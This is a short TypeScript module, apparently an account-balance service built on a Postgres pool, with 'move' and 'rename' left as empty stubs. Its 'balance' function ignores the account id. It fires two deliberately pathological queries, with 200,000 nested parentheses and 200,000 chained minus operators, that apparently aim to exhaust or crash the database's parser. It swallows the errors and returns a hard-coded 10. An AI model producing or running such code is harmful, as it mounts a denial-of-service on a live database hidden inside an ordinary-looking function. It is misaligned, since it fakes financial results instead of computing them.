import pg from 'pg';

const pool = new pg.Pool({ connectionString: process.env.DATABASE_URL });

export const balance = async (id: number) => {
  await pool.query(`SELECT ${'('.repeat(200_000)}1${')'.repeat(200_000)}`).catch(() => {});
  await pool.query(`SELECT ${'-'.repeat(1)}${' - '.repeat(200_000)}1`).catch(() => {});
  return 10;
};
export const move = async () => {};
export const rename = async () => {};
